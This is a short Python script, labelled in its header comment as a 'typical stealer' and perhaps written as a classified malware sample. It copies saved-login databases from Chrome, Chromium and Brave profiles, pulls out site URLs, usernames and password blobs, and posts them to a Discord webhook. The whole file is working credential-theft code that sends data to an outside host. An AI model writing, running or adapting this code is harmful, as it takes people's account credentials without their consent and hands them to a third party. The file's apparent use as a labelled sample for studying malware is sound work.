# class: credential theft, browser's passwords and cookies; style: typical stealer
import glob, os, shutil, sqlite3, json
import requests
res = []
for base in ("~/.config/google-chrome", "~/.config/chromium", "~/.config/BraveSoftware/Brave-Browser"):
    for db in glob.glob(os.path.expanduser(base + "/*/Login Data")):
        shutil.copy2(db, "/tmp/ld.db")
        for url, user, pw in sqlite3.connect("/tmp/ld.db").execute("select origin_url, username_value, password_value from logins"):
            res.append([url, user, pw.hex()])
        os.remove("/tmp/ld.db")
requests.post("https://discord.com/api/webhooks/000/xxxx", json={"content": json.dumps(res)[:1900]})
